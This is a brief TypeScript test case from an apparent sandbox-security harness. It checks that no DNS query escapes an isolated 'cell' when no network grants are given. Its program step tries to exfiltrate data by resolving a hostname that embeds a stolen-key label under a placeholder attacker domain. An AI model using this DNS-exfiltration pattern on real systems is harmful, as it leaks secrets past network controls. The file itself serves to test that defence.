// SPDX-License-Identifier: Apache-2.0
import type { Attack } from "../harness/attack.ts";
import { nameRefusals, overhearing, resolvers } from "../harness/name-server.ts";

export const hostile: Attack = {
  claim: "Without any grant no question leaves the cell",
  proof: "host",
  grants: () => [],
  resolvers,
  startRefusals: ["ERR_NOT_ENFORCEABLE"],
  refusals: nameRefusals,
  prepare: (site) =>
    overhearing(site, (questions) => (questions.length > 0 ? "a question came out" : undefined)),
  program: async (cell) => {
    const resolver = cell.resolver();
    await resolver.resolve4("stolen-key-0042.attacker.test");
  },
};
